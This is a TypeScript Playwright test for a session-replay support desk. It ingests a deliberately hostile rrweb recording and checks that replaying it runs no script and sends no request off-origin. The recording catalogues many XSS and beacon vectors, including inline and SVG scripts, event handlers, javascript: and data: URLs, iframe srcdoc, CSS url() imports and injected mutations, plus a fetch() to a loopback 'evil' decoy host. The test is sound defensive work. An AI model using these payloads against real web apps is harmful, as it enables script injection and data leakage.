import http from "node:http";
import { chromium, type Request as BrowserRequest } from "@playwright/test";
import { el, metaEvent, snapshotEvent, text } from "../support/events";
import { waitUntil } from "@/tests/support/poll";
import type { Context } from "./context";

// Issue 8, part 4: a recording made of everything a hostile page (or a tampered SDK) can put in
// rrweb events, ingested through the real pipeline, approved by its "customer", and replayed in
// the agent's browser (the desk's "Watch the replay"). Nothing may run in the app's origin and no
// request may leave for another host: every URL in it points at a decoy server on loopback that
// counts what reaches it, and the browser's own request log is checked too.

// The decoy listens 99 above the app's port, so runs on different ports do not collide.
const decoyPort = (appPort: number) => appPort + 99;
const reportingScript = (evil: string) => (how: string) => `window.top.__pwned=${JSON.stringify(how)};fetch(${JSON.stringify(`${evil}/fetch-${how}`)})`;

const svg = (tagName: string, attributes: Record<string, string> = {}, children: Record<string, unknown>[] = []) => ({ ...el(tagName, attributes, children), isSVG: true });

function hostileRecording(start: number, evil: string) {
  const attack = reportingScript(evil);
  const style = el("style", {}, [text(`@import url(${evil}/import.css); body{background-image:url('${evil}/style-bg')} @font-face{font-family:x;src:url(${evil}/font.woff)} p{font-family:x}`)]);
  const head = [
    el("meta", { "http-equiv": "refresh", content: `0;url=${evil}/meta-refresh` }),
    el("base", { href: `${evil}/base/` }),
    el("link", { rel: "stylesheet", href: `${evil}/link.css` }),
    el("link", { rel: "stylesheet", href: "relative.css" }),
    el("link", { rel: "stylesheet", href: `${evil}/inlined.css`, _cssText: `body{background:url(${evil}/link-csstext)}` }),
    el("link", { rel: "prefetch", href: `${evil}/prefetch` }),
    el("link", { rel: "preload", as: "image", href: `${evil}/preload` }),
    el("link", { rel: "icon", href: `${evil}/icon` }),
    el("link", { rel: "preconnect", href: `${evil}/preconnect` }),
    el("link", { rel: "dns-prefetch", href: "//adv-leak.invalid" }),
    el("script", { src: `${evil}/script-src.js` }),
    el("script", {}, [text(attack("script"))]),
    style,
  ];
  // Found in the replay by its role: the masked stream keeps roles, not ids (they become hashes).
  const target = el("div", { id: "target", role: "region", "data-x": `<img src=${evil}/data-attr onerror=${attack("data-attr")}>` }, [text("Target")]);
  const body = [
    el("main", { "data-replay-unmask": "" }, [
      el("div", { onclick: attack("onclick"), onmouseover: attack("onmouseover"), onload: attack("onload") }, [text("Handlers")]),
      el("a", { href: `javascript:${attack("js-url")}` }, [text("js link")]),
      el("a", { href: `data:text/html,<script>${attack("data-url")}</script>` }, [text("data link")]),
      el("a", { href: `${evil}/anchor`, ping: `${evil}/ping` }, [text("ping link")]),
      el("iframe", { srcdoc: `<script>${attack("srcdoc")}</script><img src="${evil}/srcdoc-img">` }),
      el("iframe", { src: `${evil}/iframe-src` }),
      el("iframe", { src: `javascript:${attack("iframe-js")}` }),
      el("img", { src: `${evil}/img`, onerror: attack("img-onerror") }),
      el("object", { data: `${evil}/object` }),
      el("embed", { src: `${evil}/embed` }),
      el("video", { poster: `${evil}/poster`, src: `${evil}/video` }),
      el("input", { type: "image", src: `${evil}/input-image` }),
      el("input", { type: "text", value: "styled", style: `background:url(${evil}/inline-style)` }),
      el("form", { action: `${evil}/form` }, [el("button", { formaction: `${evil}/formaction` }, [text("Send")])]),
      el("p", { style: `background-image:url("${evil}/p-style")` }, [text(`</p><script>${attack("text")}</script>`)]),
      svg("svg", { onload: attack("svg-onload") }, [
        svg("use", { href: `${evil}/use.svg#a` }),
        svg("image", { href: `${evil}/svg-image` }),
        svg("a", { href: `javascript:${attack("svg-a")}` }, [svg("text", {}, [text("svg link")])]),
        svg("animate", { attributeName: "href", to: `javascript:${attack("animate")}` }),
        svg("script", {}, [text(attack("svg-script"))]),
        svg("foreignObject", {}, [el("div", { style: `background:url(${evil}/foreign)` })]),
      ]),
      el("x-evil", { onclick: attack("custom") }),
      target,
    ]),
  ];
  const snapshot = snapshotEvent(body, head, start);
  const mutation = {
    type: 3,
    timestamp: start + 300,
    data: {
      source: 0,
      texts: [{ id: (target.childNodes as { id: number }[])[0]!.id, value: `<img src=x onerror=${attack("text-mutation")}>` }],
      attributes: [{ id: target.id, attributes: { onclick: attack("attr-mutation"), style: `background:url(${evil}/mutation-style)`, href: `${evil}/mutation-href` } }],
      removes: [],
      adds: [
        { parentId: target.id, nextId: null, node: { type: 2, id: 9001, tagName: "script", attributes: { src: `${evil}/added-script.js` }, childNodes: [{ type: 3, id: 9002, textContent: attack("added-script") }] } },
        { parentId: target.id, nextId: null, node: { type: 2, id: 9003, tagName: "img", attributes: { src: `${evil}/added-img`, onerror: attack("added-img") }, childNodes: [] } },
        { parentId: target.id, nextId: null, node: { type: 2, id: 9004, tagName: "link", attributes: { rel: "stylesheet", href: `${evil}/added-link.css` }, childNodes: [] } },
      ],
    },
  };
  const rule = { type: 3, timestamp: start + 400, data: { source: 8, id: style.id, adds: [{ rule: `div{background:url(${evil}/rule-add)}`, index: 0 }] } };
  const declaration = { type: 3, timestamp: start + 500, data: { source: 13, id: style.id, index: [0], set: { property: "background", value: `url(${evil}/declaration)` } } };
  const end = { type: 3, timestamp: start + 1500, data: { source: 1, positions: [{ x: 1, y: 1, id: target.id, timeOffset: 0 }] } };
  return [metaEvent(`${evil}/page`, start), snapshot, mutation, rule, declaration, end];
}

export async function replaySafety(ctx: Context): Promise<void> {
  const decoyHits: string[] = [];
  const decoy = http.createServer((req, res) => {
    decoyHits.push(req.url ?? "");
    res.writeHead(200, { "content-type": "text/plain" }).end("decoy");
  });
  const evil = `http://127.0.0.1:${decoyPort(ctx.server.config.port)}`;
  await new Promise<void>((resolve) => decoy.listen(decoyPort(ctx.server.config.port), "127.0.0.1", resolve));
  const browser = await chromium.launch({
    executablePath: process.env.CHROMIUM_PATH ?? "/usr/bin/chromium",
    args: ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update", "--no-first-run", "--disable-sync"],
  });
  try {
    const email = ctx.uniqueEmail("replay");
    const { ticketId } = await ctx.ticketWithRecording(email, hostileRecording(Date.now(), evil));
    const agent = await ctx.signedIn("agent@demo.test");
    const { token } = await ctx.askToView(agent, ticketId, email);
    const approved = await ctx.newClient().post("/api/v1/approvals/decide", { json: { token, decision: "approve" } });
    ctx.check("replay: the customer's approval is accepted", approved.status === 200, `got ${approved.status}`);

    const context = await browser.newContext({ baseURL: ctx.url });
    await context.addCookies([...agent.cookies].map(([name, value]) => ({ name, value, url: ctx.url, httpOnly: true, sameSite: "Lax" as const })));
    const requests: string[] = [];
    const failed: string[] = [];
    context.on("request", (r: BrowserRequest) => requests.push(r.url()));
    context.on("requestfailed", (r: BrowserRequest) => failed.push(`${r.url()} ${r.failure()?.errorText ?? ""}`));
    const page = await context.newPage();
    let dialogs = 0;
    page.on("dialog", (d) => {
      dialogs += 1;
      void d.dismiss();
    });
    const response = await page.goto(`/desk/tickets/${ticketId}`);
    const csp = response?.headers()["content-security-policy"] ?? "";
    ctx.check("replay: the desk page is served under a nonce-based CSP without unsafe-inline scripts", /script-src 'self' 'nonce-[^']+' 'strict-dynamic'/.test(csp) && !/script-src[^;]*unsafe-inline/.test(csp), csp);
    await page.getByRole("button", { name: "Watch the replay" }).click();
    const frame = page.getByTestId("replay-viewer").locator("iframe");
    await frame.waitFor({ state: "attached", timeout: 20_000 });
    const rendered = await frame
      .contentFrame()
      .locator("div[role=region]")
      .waitFor({ state: "attached", timeout: 15_000 })
      .then(() => true)
      .catch(() => false);
    ctx.check("replay: the hostile recording replays (its content is there)", rendered);
    // Play it through: the mutations and style rules come after the snapshot. The player's
    // progress bar is full once every event has been applied.
    const progressWidth = () => page.locator(".rr-progress__step").evaluate((e) => (e as HTMLElement).style.width);
    await page.locator(".rr-controller__btns button").first().click();
    await waitUntil(async () => (await progressWidth()) === "100%", { what: "the replay played through", timeoutMs: 15_000 });
    // Then a seek near the end (the player rebuilds the page by fast-forward, another code path),
    // landed once the bar has shown the new position. The player may play on to the end at once,
    // so the bar is watched for any position but the end, not polled (a poll can miss it).
    type SeekWatch = { replaydeskSeekSeen?: boolean };
    await page.locator(".rr-progress__step").evaluate((step) => {
      const w = window as unknown as SeekWatch;
      w.replaydeskSeekSeen = false;
      new MutationObserver(() => {
        if ((step as HTMLElement).style.width !== "100%") w.replaydeskSeekSeen = true;
      }).observe(step, { attributes: true, attributeFilter: ["style"] });
    });
    const bar = page.locator(".rr-progress");
    const box = await bar.boundingBox();
    if (box) {
      await page.mouse.click(box.x + box.width - 2, box.y + box.height / 2);
      await waitUntil(() => page.evaluate(() => (window as unknown as SeekWatch).replaydeskSeekSeen === true), { what: "the seek landed", timeoutMs: 10_000 });
    }
    // Whatever the rebuilt page makes the browser fetch has been asked for once its request log
    // stops growing.
    let seen = -1;
    await waitUntil(
      () => {
        const now = requests.length + failed.length;
        const settled = now === seen;
        seen = now;
        return settled;
      },
      { what: "the agent's browser done requesting", timeoutMs: 10_000, intervalMs: 300 },
    );

    const pwned = await Promise.all(page.frames().map((f) => f.evaluate(() => (window as unknown as { __pwned?: string }).__pwned ?? null).catch(() => null)));
    const sandbox = await frame.getAttribute("sandbox");
    ctx.check("replay: the replay frame is sandboxed without scripts", sandbox === "allow-same-origin", `sandbox=${sandbox}`);
    ctx.check("replay: no script of the recording ran (no __pwned in any frame, no dialog)", pwned.every((p) => p === null) && dialogs === 0, `${pwned.filter(Boolean).join(",")} dialogs ${dialogs}`);
    const appOrigin = new URL(ctx.url).origin;
    const elsewhere = requests.filter((u) => /^(https?|wss?):/i.test(u) && new URL(u).origin !== appOrigin);
    ctx.check("replay: the agent's browser requested nothing from another host", elsewhere.length === 0, [...new Set(elsewhere)].slice(0, 12).join(" "));
    ctx.check("replay: nothing reached the third-party decoy", decoyHits.length === 0, decoyHits.slice(0, 12).join(" "));
    ctx.record("replay", { browserRequests: requests.length, thirdPartyRequests: elsewhere.length, decoyHits: decoyHits.length, scriptsRun: pwned.filter(Boolean).length + dialogs, blockedOrFailed: failed.length });
    await context.close();
    agent.close();
  } finally {
    await browser.close();
    await new Promise<void>((resolve) => decoy.close(() => resolve()));
  }
}
